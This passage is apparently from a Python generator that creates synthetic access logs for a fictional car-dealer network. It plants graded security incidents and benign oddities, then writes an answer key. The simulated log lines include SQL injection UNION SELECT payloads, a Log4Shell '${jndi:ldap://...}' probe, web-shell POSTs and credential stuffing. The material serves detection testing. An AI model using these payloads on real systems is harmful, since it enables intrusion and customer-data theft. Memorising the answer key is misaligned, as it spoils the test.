                    ip,
                    "/booking",
                    method="POST",
                    agent=agent,
                    ref=base + "/booking",
                )
        for _ in range(w.count(2)):
            w.hit(
                site,
                w.at(i, 0, 24),
                f"66.249.{r.choice([66, 71])}.{r.randrange(1, 60)}",
                r.choice(["/", "/stock", f"/blog/{r.randrange(40, 90)}", "/robots.txt"]),
                agent=GOOGLE,
            )
        for hour in range(24):
            w.hit(
                site,
                w.at(i, hour + 0.1, hour + 0.12),
                HQ_NAT,
                "/health",
                agent="Zabbix 7.0",
                size=15,
            )
        if r.random() < 0.5:
            noise(w, i, site, r.choice([1, 1, 2, 3, 6]))
    for site, pages in (
        ("www", ["/", "/cars/hayate", "/news/", "/dealers/", "/robots.txt"]),
        ("owner", ["/", "/robots.txt", "/login"]),
    ):
        noise(w, i, site, 3 + w.count(6))
        for _ in range(w.count(45 * w.factor.get(("crawl", i), 1), 5)):
            ip, agent = (
                (f"66.249.66.{r.randrange(1, 60)}", GOOGLE)
                if r.random() < 0.7
                else (f"157.55.39.{r.randrange(1, 250)}", BING)
            )
            w.hit(site, w.at(i, 0, 24), ip, r.choice(pages), agent=agent)
    for k in range(96):
        for site in ("www", "owner", "crm"):
            w.hit(
                site,
                w.at(i, k / 4 + 0.01, k / 4 + 0.015),
                "10.20.0.9",
                "/health",
                agent="Zabbix 7.0",
                size=15,
            )
    for k in range(60 if w.factor.get(("batch", i)) else 24):
        w.hit(
            "crm",
            w.at(i, (4.3 if w.factor.get(("batch", i)) else 2.2) + k / 60),
            "10.31.250.4",
            f"/crm/export/dwh?part={k:02d}",
            user="batch-dwh",
            agent="Java-http-client/21.0.4",
            size=int(r.lognormvariate(12.6, 0.2)),
        )
    w.hit(
        "crm",
        w.at(i, 6.5),
        "10.31.250.6",
        "/crm/export/reminders.csv",
        user="batch-remind",
        agent="curl/8.9.1",
        size=int(r.lognormvariate(11.5, 0.2)),
    )


def noise(w: World, i: int, site: str, number: int, ip: str = "") -> None:
    """A scanner of the internet's background, which gets nothing."""
    t, ip = w.at(i, 0, 23.9), ip or w.address("noise")
    agent = w.r.choice(
        [
            "Mozilla/5.0",
            "Mozilla/5.0 zgrab/0.x",
            "python-requests/2.32.3",
            "Go-http-client/1.1",
            CHROME.replace("{v}", "119"),
        ]
    )
    for _ in range(number):
        w.hit(site, t, ip, w.r.choice(NOISE), status=404, agent=agent)
        t += secs(w.r.uniform(0.3, 4))


# -- incidents: what this company would fear ---------------------------------------------------------------------------------------------------------
def reads(
    w: World,
    c: Case,
    p: Person,
    site: str,
    days: list[int],
    hours: tuple[float, float],
    subjects: Callable[[], list[str]],
    **more: Any,
) -> None:
    """Somebody looks at customers on some days and notes nothing."""
    for i in days:
        w.visit(p, site, w.at(i, *hours), subjects(), notes=0, case=c, **more)


def leaver_csv(w: World, g: str) -> None:
    p = w.pick("sales")
    c, days = (
        w.case(
            g,
            "export",
            [p.user],
            "A salesman who is leaving takes the shop's customers as CSV, month by month, on seven evenings",
            "exports by an account that never exported, after closing time, two a night; the personnel list has him leaving",
        ),
        w.shifts(p, 7, True),
    )
    p.left = (w.days[days[-1]] + timedelta(days=4)).isoformat()
    for k, i in enumerate(days):
        w.visit(p, p.site, t := w.at(i, 19.8, 20.7), case=c, ip=p.ip)
        for m in (2 * k, 2 * k + 1):
            w.hit(
                p.site,
                t + timedelta(minutes=2 + m % 2),
                p.ip,
                f"/dms/export/customers.csv?due=2026-{m % 12 + 1:02d}",
                user=p.user,
                agent=p.agent,
                size=int(w.r.lognormvariate(12.5, 0.2)),
                case=c,
            )


def stuffing(w: World, g: str) -> None:
    ips, t = [w.address("hosting"), w.address("hosting")], w.at(w.span(1)[0], 1, 5)
    c = w.case(
        g,
        "login",
        ips,
        "Stolen passwords are tried at the owners' portal from two hosting addresses; some open",
        "hundreds of accounts failing from two addresses within an hour, then sign-ins there",
    )
    for k in range(w.r.randrange(350, 600)):
        t += secs(w.r.expovariate(0.2))
        if k % 60 == 47:
            w.member(
                t,
                w.r.choice(w.members),
                ip=ips[k % 2],
                agent=CHROME.replace("{v}", "131"),
                case=c,
                pages=["/mypage/profile"],
            )
        w.hit(
            "owner",
            t,
            ips[k % 2],
            "/login",
            method="POST",
            status=401,
            user=f"m{100000 + w.r.randrange(40000)}",
            agent=CHROME.replace("{v}", "131"),
            case=c,
        )


def shop_silent(w: World, g: str) -> None:
    site, days = f"dealer-{w.pick_shop().no}", w.span(6)
    c = w.case(
        g,
        "silence",
        [site],
        "A shop's log stops coming for days while its staff work in the CRM as ever",
        "no line of that site from one afternoon on; its people still come to the CRM from its address",
    )
    w.gaps.append((site, w.at(days[0], 14.3), w.at(days[-1], 23.99)))
    c.silent, c.seen = True, [(w.days[k], site) for k in days]


def sql_theft(w: World, g: str) -> None:
    site, t, ip = f"dealer-{w.pick_shop().no}", w.at(w.span(1)[0], 0, 22), w.address("hosting")
    c = w.case(
        g,
        "web",
        [ip],
        "SQL injection in a shop's stock page first breaks it, then reads its customers",
        "UNION SELECT in the query, errors first, then 200 with ten times the usual bytes",
    )
    for k in range(w.r.randrange(45, 80)):
        q = (
            f"1' ORDER BY {k}"
            if k < 20
            else f"-1' UNION SELECT name,tel,addr,{k} FROM customers LIMIT {500 * k},500-- -"
        )
        w.hit(
            site,
            t + secs(5 * k + w.r.random()),
            ip,
            f"/stock?model={quote(q)}",
            status=500 if k < 26 else 200,
            size=int(w.r.lognormvariate(11.8, 0.1)),
            agent=MAC,
            case=c,
        )


def after_leaving(w: World, g: str) -> None:
    p = w.pick("sales")
    gone = w.r.choice([i for i in range(13, w.n - 5) if p.on[i]] or [w.n - 9])
    p.left, p.on = w.days[gone].isoformat(), [on and i <= gone for i, on in enumerate(p.on)]
    c = w.case(
        g,
        "other",
        [p.user],
        "The account of a salesman who has left was not closed and looks up customers",
        "lines of an account after its left_on, from a mobile network and a phone",
    )
    for i in (gone + 3, gone + 5):
        reads(
            w,
            c,
            p,
            p.site,
            [i],
            (10, 19),
            lambda: p.own[: w.r.randrange(8, 25)],
            ip=w.address("mobile"),
            agent=ANDROID,
        )


def bulk_night(w: World, g: str) -> None:
    p = w.pick("warranty", "support")
    c = w.case(
        g,
        "amount",
        [p.user],
        "A member of headquarters reads hundreds of customers late one evening",
        "hundreds of records before midnight by somebody who reads a dozen a day",
    )
    reads(w, c, p, "crm", w.shifts(p, 1), (20.9, 21.6), lambda: w.some(280, 420), pace=2.5, ip=p.ip)


def other_shop(w: World, g: str) -> None:
    p, s = w.pick("sales"), w.pick_shop()
    c = w.case(
        g,
        "other_site",
        [p.user],
        f"A salesman of shop {p.shop} signs in to the system of shop {s.no} (his password is accepted) and reads its customers",
        "an account of one shop on another shop's site, from his own shop's address, on many days, nothing noted",
    )
    reads(
        w,
        c,
        p,
        f"dealer-{s.no}",
        w.shifts(p, 8, True),
        (12, 18),
        lambda: w.some(2, 8, s.no),
        ip=p.ip,
    )


def vip_curiosity(w: World, g: str) -> None:
    people = [w.pick("cc", "ccx") for _ in range(3)]
    c, days = (
        w.case(
            g,
            "other",
            [p.user for p in people],
            "Three operators look up a well-known actress after a magazine wrote of her new car",
            "a watched customer opened by three operators within days, nothing written",
        ),
        w.span(5),
    )
    for p in people:
        reads(
            w,
            c,
            p,
            "crm",
            [next((k for k in days if p.on[k]), days[0])],
            (12.5, 17.5),
            lambda: [w.vips[0]],
            lists=0,
        )


def staff_takeover(w: World, g: str) -> None:
    p, ip = w.pick("front", "sales"), w.address("hosting")
    c, t = (
        w.case(
            g,
            "place",
            [p.user, ip],
            "A phished dealer account is used from a hosting address in working hours to read customers in the CRM",
            "the account works from its shop at the same time; other address and browser, one failed try, forty records without a note",
        ),
        w.at(w.shifts(p, 1)[0], 10.5, 15),
    )
    w.visit(p, p.site, t - timedelta(minutes=10), p.own[:9])
    w.hit("crm", t, ip, "/crm/login", method="POST", status=401, user=p.user, agent=CHROME, case=c)
    w.visit(
        p,
        "crm",
        t + secs(25),
        w.some(30, 48, p.shop),
        ip=ip,
        agent=CHROME,
        notes=0,
        pace=3.3,
        case=c,
        typo=0,
    )


def link_guessing(w: World, g: str) -> None:
    days, ips, number = (
        w.span(9),
        [w.address("hosting") for _ in range(3)],
        w.r.randrange(2000, 60000),
    )
    c = w.case(
        g,
        "outsider",
        ips,
        "Somebody counts through the numbers of the reminder mail's links, forty a day, and sees names and cars where one fits",
        "anonymous 404s on /shaken/ in rising order from three addresses, 200s in between; customers get no 404 there",
    )
    for i in days:
        t = w.at(i, 9, 22)
        for _ in range(w.r.randrange(30, 50)):
            t, number = t + secs(w.r.uniform(8, 40)), number + w.r.randrange(1, 4)
            w.hit(
                "owner",
                t,
                ips[i % 3],
                f"/shaken/{w.days[days[0]]:%y%m}{number:05d}",
                status=200 if w.r.random() < 0.12 else 404,
                agent=IPHONE.replace("{m}", "4"),
                case=c,
            )


def home_nights(w: World, g: str) -> None:
    p, ip = w.pick("admin", "manager"), w.address("home")
    c = w.case(
        g,
        "hours",
        [p.user],
        "A member of a shop reads customers from home before midnight, two or three nights a week",
        "this account's only sign-ins at night, from a private address, twenty records each, none noted",
    )
    reads(
        w,
        c,
        p,
        p.site,
        w.shifts(p, 12, True)[::2],
        (22.4, 23.2),
        lambda: w.fresh(p, w.r.randrange(14, 28)),
        ip=ip,
        agent=CHROME,
        pace=3.4,
    )


def leaver_slow(w: World, g: str) -> None:
    p = w.pick("sales")
    p.left, p.rate, wanted = (
        (w.days[-1] + timedelta(days=20)).isoformat() if w.r.random() < 0.5 else "",
        min(p.rate, 0.9),
        w.fresh(p, 420),
    )
    c = w.case(
        g,
        "weeks",
        [p.user],
        "A salesman who will leave reads his colleagues' customers, some ten a day beyond his work, for weeks",
        "no day stands out; over weeks far more different customers than before and than his peers, hardly one twice, none noted",
    )
    reads(
        w,
        c,
        p,
        p.site,
        w.shifts(p, 14 if w.n < 50 else 16, True),
        (p.start + 0.3, p.end - 0.7),
        lambda: [wanted.pop() for _ in range(min(len(wanted), w.r.randrange(6, 15)))],
        lists=2,
    )


def one_customer(w: World, g: str) -> None:
    p = w.pick("front", "admin")
    c, no = (
        w.case(
            g,
            "other",
            [p.user],
            "A member of a shop keeps looking at one customer (a former partner) without a reason",
            "one record opened again and again over weeks by one person only, no note",
        ),
        w.fresh(p, 1),
    )
    for _ in range(2):
        reads(
            w,
            c,
            p,
            p.site,
            [i for i in w.shifts(p, 14, True) if w.r.random() < 0.6],
            (p.start + 0.3, p.end - 0.5),
            lambda: no,
            lists=0,
        )


def all_prefectures(w: World, g: str) -> None:
    p = w.pick("marketing")
    c, days = (
        w.case(
            g,
            "export",
            [p.user],
            "A marketing planner takes the owners of the whole country in small files, prefecture after prefecture",
            "each file is usual; together all 47 prefectures in order, once each, at the day's end; colleagues take the same eight again and again",
        ),
        w.shifts(p, 14 if w.n < 50 else 16, True),
    )
    for k in range(47):
        i = days[k * len(days) // 47]
        if (p.user, "crm", i) not in w.sids:
            w.visit(p, "crm", w.at(i, 17.2), lists=0)
        w.hit(
            "crm",
            w.at(i, 17.5 + (k % 5) / 12),
            p.ip,
            f"/crm/export/segment.csv?purpose=DM{w.days[i]:%y%m}&pref={k + 1:02d}",
            user=p.user,
            agent=p.agent,
            size=int(w.r.lognormvariate(11.6, 0.5)),
            sid=w.sid(p.user, "crm", i),
            case=c,
        )


def quiet_shell(w: World, g: str) -> None:
    site, ips = f"dealer-{w.pick_shop(False).no}", [w.address("noise") for _ in range(4)]
    c = w.case(
        g,
        "web",
        [*ips, site],
        "A script hidden under a harmless name in a shop's blog answers a call or two a day from changing addresses",
        "a .php among style sheets that gives 200 to POST, asked for by nobody else, and by nobody before that day",
    )
    for i in w.span(14):
        for _ in range(w.r.choice([0, 1, 1, 2])):
            w.hit(
                site,
                w.at(i, 0, 24),
                w.r.choice(ips),
                "/blog/wp-includes/css/dist/colors.php",
                method="POST",
                status=200,
                size=w.r.randrange(30, 1500),
                case=c,
            )


def thieves_list(w: World, g: str) -> None:
    p, pref = w.pick("sales", "front"), w.r.choice(["23", "12", "08", "27"])
    c = w.case(
        g,
        "weeks",
        [p.user],
        "Somebody at a shop looks for owners of the model that car thieves want, in another prefecture, and opens their data",
        "searches for one model with pref=, which nobody else at shops uses, and a few customers of other shops after each, for two weeks",
    )
    for i in w.shifts(p, 10, True):
        w.visit(
            p, "crm", (t := w.at(i, p.start + 0.5, p.end - 1)) - timedelta(minutes=3), p.own[:1]
        )
        w.hit(
            "crm",
            t,
            p.ip,
            f"/crm/search?model=GRANDTERRA&pref={pref}&page={w.r.randrange(1, 9)}",
            user=p.user,
            agent=p.agent,
            sid=w.sid(p.user, "crm", i),
            case=c,
        )
        w.visit(p, "crm", t + secs(30), w.some(2, 6), notes=0, lists=0, case=c, login=False)


def stolen_session(w: World, g: str) -> None:
    p, ip = w.pick("recall", "warranty", "cc"), w.address("home")
    c, i = (
        w.case(
            g,
            "session",
            [p.user, ip],
            "The running session of a member of headquarters is used from outside beside its owner for some minutes",
            "one session at two addresses with two browsers, interleaved, the second without a sign-in",
        ),
        w.shifts(p, 1)[0],
    )
    w.visit(
        p,
        "crm",
        (t := w.at(i, max(10, p.start + 1), 16)) - timedelta(minutes=6),
        w.some(9, 12),
        pace=4.6,
    )
    w.visit(
        p,
        "crm",
        t,
        w.some(7, 13),
        ip=ip,
        agent=CHROME,
        sid=w.sid(p.user, "crm", i),
        login=False,
        notes=0,
        pace=3.4,
        case=c,
    )


def lost_bookings(w: World, g: str) -> None:
    s, days = w.pick_shop(), w.span(10)
    s.public = max(s.public, 1.8)
    c = w.case(
        g,
        "errors",
        [f"dealer-{s.no}"],
        "At one shop every booking of an inspection fails, and nobody there notices for days",
        "each POST to /booking answers 500 since one day, a few a day; all else is well",
    )
    w.failing.append(
        (f"dealer-{s.no}", "POST", "/booking", w.at(days[0], 0), w.at(days[-1], 23.99), 500, c)
    )


def cut_log(w: World, g: str) -> None:
    site, days = f"dealer-{w.pick_shop().no}", w.span(6)[::2]
    c = w.case(
        g,
        "silence",
        [site],
        "Hours at noon are cut from a shop's log on three days",
        "no line, not even monitoring's hourly one, while the shop's people are in the CRM from its address as ever",
    )
    w.gaps += [(site, w.at(i, 11.7), w.at(i, 14.4)) for i in days]
    c.silent, c.seen = True, [(w.days[i], site) for i in days]


STORIES = {
    "easy": [leaver_csv, stuffing, shop_silent, sql_theft, after_leaving, bulk_night],
    "medium": [other_shop, vip_curiosity, staff_takeover, link_guessing, home_nights],
    "hard": [
        leaver_slow,
        one_customer,
        all_prefectures,
        quiet_shell,
        thieves_list,
        stolen_session,
        lost_bookings,
        cut_log,
    ],
}
SLOW = [
    leaver_csv,
    shop_silent,
    other_shop,
    link_guessing,
    home_nights,
    leaver_slow,
    one_customer,
    all_prefectures,
    quiet_shell,
    thieves_list,
    lost_bookings,
]


def incidents(w: World) -> None:
    """Draw which stories happen: about a third of each grade; with 63 days mostly slow ones; and one lone probe that got nothing."""
    for grade, pool in STORIES.items():
        slow, fast = [s for s in pool if s in SLOW], [s for s in pool if s not in SLOW]
        for tell in (
            w.r.sample(pool, 5)
            if w.n < 50
            else w.r.sample(slow, 2 if grade == "easy" else 3) + w.r.sample(fast, 1)
        ):
            tell(w, grade)
    ip, site = w.address("noise"), f"dealer-{w.r.choice(w.steady).no}"
    c = w.case(
        "easy",
        "web",
        [ip],
        "A lone try of a known hole at a shop's site, refused",
        "one line with ${jndi: in it, and 404",
        woken=False,
    )
    w.hit(
        site,
        w.at(w.span(1)[0], 4.4),
        ip,
        "/?x=" + quote("${jndi:ldap://x.example/a}"),
        status=404,
        agent="Mozilla/5.0",
        case=c,
    )


# -- annoyances: what looks odd and wakes nobody -----------------------------------------------------------------------------------------------------
def annoyances(w: World) -> int:
    """Write what is odd and harmless, and note it; gives the day on which the auditors begin."""
    r, half, n, iso, every = (
        w.r,
        w.half,
        w.n,
        [d.isoformat() for d in w.days],
        [f"dealer-{s.no}" for s in w.shops],
    )
    site_of = lambda s: f"dealer-{s.no}"
    for i, d in enumerate(w.days):
        if (d + timedelta(days=2)).day <= 2 and i >= 10:
            for p in (p for p in w.people if p.role in ("admin", "manager")):
                p.busy[i] = r.uniform(2, 3.5)
            w.note(
                i,
                i,
                every,
                [],
                "Month-end: clerks and managers of all shops stay late and read more",
                "every month alike, at all shops together",
            )
        if d.day in (2, 10):
            w.note(
                i,
                i + 2 * (d.day == 2),
                every if d.day == 2 else ["owner"],
                [],
                "Clerks take addresses for the month's inspection mail"
                if d.day == 2
                else "Hundreds follow the links of the reminder mail at once, without signing in",
                "routine of the month's first days, small files"
                if d.day == 2
                else "the mail goes out at ten on the tenth; that is what its links are for",
            )
    p, i = w.pick("cc"), max(3, half - 4)
    p.joined, p.on, p.busy = (
        iso[i],
        [on and k >= i for k, on in enumerate(p.on)],
        dict.fromkeys(range(i, i + 20), 1.6),
    )
    w.note(
        i,
        i + 20,
        ["crm"],
        [p.user],
        "A new operator reads more than the others to learn",
        "joined that day by the personnel list",
    )
    auditors, monday = (
        [q for q in w.people if q.role == "audit"],
        next(
            (i for i in range(half, n - 4) if w.days[i].weekday() == 0 and not hq_break(w.days[i])),
            n - 5,
        ),
    )
    for q, i in ((q, i) for q in auditors for i in range(monday, monday + 5)):
        w.visit(
            q,
            site_of(s := r.choice(w.steady)),
            w.at(i, 9.5, 12),
            w.some(20, 45, s.no),
            notes=0,
            lists=3,
        )
        w.visit(q, "crm", w.at(i, 13.5, 15), w.some(40, 70), notes=0, lists=3)
    w.note(
        monday,
        monday + 4,
        ["crm", *every],
        [q.user for q in auditors],
        "Internal audit draws samples at shops and in the CRM for a week",
        "announced; the privileges file has their dates",
    )
    s, i = w.pick_shop(False), half + r.randrange(2, 8)
    w.moved = (s.ip, w.address("shop"), w.at(i, 0))
    w.note(
        i,
        n - 1,
        [site_of(s), "crm"],
        [q.user for q in w.people if q.shop == s.no],
        "A shop moves to a new building and has a new address",
        "all its people change on the same day",
    )
    p, s = w.pick("front"), w.pick_shop()
    for i in (i for i in range(n) if w.days[i].weekday() == 3 and not shop_break(w.days[i])):
        p.on[i] = False
        w.visit(p, site_of(s), w.at(i, 9.8, 11), w.some(6, 20, s.no), ip=s.ip, notes=0.5)
    w.note(
        0,
        n - 1,
        [site_of(s)],
        [p.user],
        "A receptionist helps at another shop every Thursday",
        "for months, from that shop's address, with notes as part of work",
    )
    for k, m in enumerate(who := r.sample(w.members[:1500], 5)):
        w.member(w.live(half + 3 * k), m, fails=r.randrange(7, 14), ip=m[1])
    w.note(
        half,
        half + 12,
        ["owner"],
        [m[0] for m in who],
        "Customers try ten forgotten passwords, then reset and sign in",
        "from their own line, then the reset",
    )
    w.factor[("crawl", i := half + r.randrange(1, 9))] = 14
    w.note(
        i,
        i,
        ["www", "owner"],
        [],
        "Search engines fetch the public site anew after its site map changed",
        "welcome crawlers on public pages",
    )
    i = next(i for i in range(half, n) if w.days[i].weekday() == 6)
    w.failing.append(("crm", "", "/", w.at(i, 1), w.at(i, 5.5), 503, None))
    w.note(
        i,
        i,
        ["crm"],
        ["batch-dwh"],
        "Planned maintenance of the CRM on Sunday from 1 to 5:30: all is 503",
        "announced, at night, ends in time; the batch fails with it",
    )
    i = half + r.randrange(3, 10)
    for k in range(4):
        w.factor |= {
            ("www", i + k): 2.4 - 0.4 * k,
            ("owner", i + k): 1.7 - 0.2 * k,
            ("crm", i + k): 1.3 - 0.1 * k,
        }
    w.note(
        i,
        i + 3,
        ["www", "owner", "crm"],
        [],
        "A recall is in the news: visitors, customers and the call centre are far busier",
        "all together, decays over days",
    )
    i, rebuilt, j = half + r.randrange(0, 12), w.pick_shop(), half + r.randrange(0, 6)
    for q in w.people:
        q.on = [
            on
            and not (k == i and q.shop in [x.no for x in w.shops[-4:]])
            and not (j <= k < j + 6 and q.shop == rebuilt.no)
            for k, on in enumerate(q.on)
        ]
        q.joined = w.shops[21].opened_on if q.shop == w.shops[21].no else q.joined
    w.note(
        i,
        i,
        [site_of(x) for x in w.shops[-4:]],
        [],
        "A typhoon (or snow): four shops of one region stay closed for a day",
        "public pages and monitoring go on",
    )
    w.note(
        j,
        j + 5,
        [site_of(rebuilt)],
        [],
        "A shop is rebuilt and closed for six days",
        "monitoring and public pages go on, nobody works",
    )
    w.note(
        0,
        n - 1,
        [*map(site_of, w.shops[7:10]), "crm"],
        [w.shops[7].ip],
        "Three shops of a dealer group come from one address with over twenty accounts",
        "their common proxy",
    )
    i = half + r.randrange(2, 9)
    w.factor |= {("batch", k): 1 for k in range(i, i + 3)}
    w.note(
        i,
        i + 2,
        ["crm"],
        ["batch-dwh"],
        "The warehouse's batch runs two hours later and takes more parts for three nights",
        "a system account that loads anew, from its own server",
    )
    w.twice.append((site_of(s := r.choice(w.steady[8:18])), i := half + r.randrange(1, 10)))
    w.note(
        i,
        i,
        [site_of(s)],
        [site_of(s)],
        "A shop's file arrives twice, packed and unpacked",
        "the same lines; its rotation does that now and then",
    )
    i, ip = half + r.randrange(1, 10), w.address("noise")
    noise(w, i, "www", 160, ip)
    w.note(
        i,
        i,
        ["www"],
        [ip],
        "A scanner asks the public site for 160 files that do not exist",
        "all 404, gone after minutes; for the record at most",
    )
    p = w.pick("manager")
    for i in (i for i in range(n) if p.on[i]):
        w.hit(
            p.site,
            w.at(i, 9.1, 9.4),
            p.ip,
            "/dms/export/old-report",
            user=p.user,
            status=403,
            agent=p.agent,
        )
    w.note(
        0,
        n - 1,
        [p.site],
        [p.user],
        "A manager's forgotten bookmark is refused every morning",
        "one 403 a day since ever, never anything else",
    )
    i = next((k for k in range(half + 2, n) if w.days[k].weekday() == 0), n - 1)
    for x in (tried := [x for x in w.people if x.on[i] and x.shop and r.random() < 0.3]):
        for k in range(r.choice([1, 2, 2, 4])):
            w.hit(
                "crm",
                w.at(i, x.start + k / 100),
                x.ip,
                "/crm/login",
                user=x.user,
                method="POST",
                status=401,
                agent=x.agent,
            )
        w.visit(x, "crm", w.at(i, x.start + 0.1), x.own[:2])
    w.note(
        i,
        i,
        ["crm"],
        [x.user for x in tried],
        "All passwords ran out on Sunday; on Monday morning many fail a few times",
        "from the own shops, then they get in",
    )
    old = w.pick("sales")
    new = next(
        x for x in w.people if x.shop == old.shop and x.role == "sales" and x.user not in w.taken
    )
    days = [k for k in range(half, n) if new.on[k]][:4] or [n - 1]
    old.left, old.on = iso[days[0]], [on and k < days[0] for k, on in enumerate(old.on)]
    for k in days:
        w.visit(
            new, new.site, w.at(k, 10, 15), old.own[25 * days.index(k) :][:25], notes=0.7, lists=2
        )
    w.note(
        days[0],
        days[-1],
        [new.site],
        [new.user],
        "A salesman takes over the customers of a colleague who left, and reads them all in days",
        "the other left that day by the personnel list; notes at most of them",
    )
    p = w.pick("manager")
    for k, x in (
        (k, x)
        for k in w.shifts(p, 4)
        for x in w.people
        if x.shop == p.shop and x.on[k] and not x.left
    ):
        w.visit(x, x.site, w.at(k, 10, 17), p.own[:1] * r.choice([1, 2, 3]), notes=0.8, lists=0)
    w.note(
        half,
        n - 1,
        [p.site],
        [p.user],
        "A complaint: one customer's record is opened again and again by the whole shop for days",
        "several people, notes each time",
    )
    for s, i, what in (
        (w.shops[21], w.shops[21].from_day, "A new shop opens: new site, accounts and address"),
        (w.shops[26], w.shops[26].to_day, "A shop closes for good and sends nothing more"),
    ):
        w.note(
            i,
            n - 1 if i != w.shops[26].to_day else i,
            [site_of(s), "crm"],
            [x.user for x in w.people if x.shop == s.no] + [site_of(s)],
            what,
            "in the roster with that day",
        )
    return monday


# -- files ------------------------------------------------------------------------------------------------------------------------------------------
def printed(kind: str, x: Line) -> str:
    """A line as the server of a kind writes it."""
    utc, user, ref = x.t - timedelta(hours=9), x.user or "-", x.ref or "-"
    request, stamp, path, query = (
        f"{x.method} {x.target} HTTP/1.1",
        x.t.strftime("%d/%b/%Y:%H:%M:%S +0900"),
        *(x.target.split("?", 1) + ["-"])[:2],
    )
    if kind == "json":
        own = x.ip == "10.20.0.9"  # monitoring comes past the proxy
        return json.dumps(
            {
                "time": x.t.strftime("%Y-%m-%dT%H:%M:%S+09:00"),
                "host": "crm.hinode.example",
                "peer": x.ip if own else f"10.20.0.{5 + x.t.minute % 2}",
                "xff": "" if own else x.ip,
                "user": x.user,
                "request": request,
                "status": str(x.status),
                "bytes": str(x.size),
                "rt": f"{x.ms / 1000:.3f}",
                "referer": x.ref,
                "agent": x.agent,
                "crmsid": x.sid,
            },
            separators=(",", ":"),
        )
    if kind == "iis":
        return f"{utc:%Y-%m-%d %H:%M:%S} 192.168.10.5 {x.method} {path} {query} 443 {user} {x.ip} {x.agent.replace(' ', '+')} {ref} {x.status} 0 0 {x.size} {x.ms}"
    if kind == "alb":
        return (
            f'https {utc:%Y-%m-%dT%H:%M:%S.%fZ} app/www/50dc6c495c0c9188 {x.ip}:{40000 + x.ms % 20000} 10.40.1.21:80 0.001 {x.ms / 1000:.3f} 0.000 {x.status} {x.status} 340 {x.size} "{x.method} https://www.hinode.example:443{x.target} HTTP/2.0" "{x.agent}" '
            f'ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn:aws:elasticloadbalancing:ap-northeast-1:123456789012:targetgroup/www/73e2d6bc24d8a067 "Root=1-{int(x.t.timestamp()):x}-{x.size:024x}" "www.hinode.example" "-" 0 {utc:%Y-%m-%dT%H:%M:%S.%fZ} "forward" "-" "-" "10.40.1.21:80" "{x.status}" "-" "-"'
        )
    return (
        f'{x.ip} - {user} [{stamp}] "{request}" {x.status} {x.size or "-"} "{ref}" "{x.agent}"'
        + (f' "{x.sid or "-"}" {x.ms * 1000}' if kind == "owner" else "")
    )


def save(path: Path, text: str) -> None:
    """Write a file, packed when its name says so, the same bytes every time."""
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(
        gzip.compress(text.encode(), mtime=0) if path.suffix == ".gz" else text.encode()
    )


def write_logs(w: World, logs: Path) -> None:
    """One file for each site and day, as each server rotates: IIS and the load balancer by UTC days, the others by local ones."""
    for site in sorted(w.lines):
        no = site[7:]
        kind = {"crm": "json", "owner": "owner", "www": "alb"}.get(site) or (
            "iis" if w.by_no[no].iis else "combined"
        )
        days: dict[date, list[str]] = defaultdict(list)
        for x in sorted(w.lines[site], key=lambda x: x.t):
            days[(x.t - timedelta(hours=9 if kind in ("iis", "alb") else 0)).date()].append(
                printed(kind, x)
            )
        for d, lines in days.items():
            old = ".gz" if (w.days[-1] - d).days > 2 else ""
            name = {
                "json": f"crm/access.json-{d:%Y%m%d}{old}",
                "owner": f"owner/access_log.{d}",
                "alb": f"www/app.www.{d:%Y%m%d}.log.gz",
                "iis": f"dealers/{no}/u_ex{d:%y%m%d}.log",
            }.get(kind, f"dealers/{no}/access.log-{d:%Y%m%d}{old}")
            top = (
                f"#Software: Microsoft Internet Information Services 10.0\n#Version: 1.0\n#Date: {d} 00:00:00\n#Fields: {IIS_FIELDS}\n"
                if kind == "iis"
                else ""
            )
            for twin in [name] + [f"{name}.1"] * ((site, (d - w.days[0]).days) in w.twice):
                save(logs / twin.replace(".gz.1", ""), top + "\n".join(lines) + "\n")


def write_context(w: World, out: Path, audit: int) -> None:
    """The settings and the files beside them."""

    def table(name: str, head: str, rows: Iterable[Iterable[object]]) -> None:
        save(out / name, "\n".join([head, *(",".join(map(str, row)) for row in rows)]) + "\n")

    kinds = {"d": "franchise", "h": "staff", "e": "contractor"}
    table(
        "people.csv",
        "user,person,name,department,site,type,company,country,joined_on,left_on",
        (
            [
                p.user,
                p.person or p.user,
                p.name,
                DEPT[p.role],
                p.site,
                kinds[p.user[0]],
                p.company,
                "JP",
                p.joined,
                p.left,
            ]
            for p in w.people
        ),
    )
    table(
        "watch.csv",
        "subject,kind,user,reason",
        [
            *([v, "vip", "", f"著名人 担当は{v[:3]}店の店長"] for v in w.vips),
            *([v, "decoy", "", "確認用の架空顧客"] for v in w.decoys),
        ],
    )
    table(
        "privileges.csv",
        "user,department,resource,level,from,to",
        [
            *(["", DEPT[x], "", 3, "2024-04-01", ""] for x in DEPT if x not in ("audit", "mail")),
            ["", DEPT["mail"], "crm-export", "", "2024-04-01", ""],
            *(
                [p.user, "", "", 3, w.days[audit], w.days[audit + 4]]
                for p in w.people
                if p.role == "audit"
            ),
        ],
    )
    table(
        "dealers.csv",
        "dealer,name,opened_on,closed_on",
        ([s.no, s.name, s.opened_on, s.closed_on] for s in w.shops),
    )
    save(
        out / "mimamori.yaml",
        SETTINGS.replace("CRM_FORMAT", CRM_FORMAT).replace("OWNER_FORMAT", OWNER_FORMAT),
    )


def main() -> None:
    """Draw the company and write it down."""
    parser = argparse.ArgumentParser(description=__doc__)
    for name, kind in (("--seed", int), ("--days", int), ("--out", Path)):
        parser.add_argument(name, type=kind, required=True)
    args = parser.parse_args()
    w = World(args.seed, args.days)
    incidents(w)
    audit = annoyances(w)
    for i in range(w.n):
        for p in (p for p in w.people if p.on[i]):
            ordinary_staff(w, p, i)
        ordinary_public(w, i)
    write_logs(w, args.out / "logs")
    write_context(w, args.out, audit)
    told = [
        {
            "id": f"i{k:02d}",
            "grade": c.grade,
            "family": c.family,
            "first_day": min(c.seen)[0].isoformat(),
            "last_day": max(c.seen)[0].isoformat(),
            "site_ids": sorted({s for _, s in c.seen}),
            "actors": c.actors,
            "what": c.what,
            "how_seen": c.how,
            "lines": 0 if c.silent else len(c.seen),
            "woken": c.woken,
        }
        for k, c in enumerate(sorted(w.cases, key=lambda c: (min(c.seen), c.what)), 1)
    ]
    save(
        args.out / "truth.json",
        json.dumps(
            {
                "seed": w.seed,
                "days": [d.isoformat() for d in w.days],
                "about": ABOUT,
                "incidents": told,
                "annoyances": w.notes,
            },
            ensure_ascii=False,
            indent=1,
        )
        + "\n",
    )


if __name__ == "__main__":
    main()
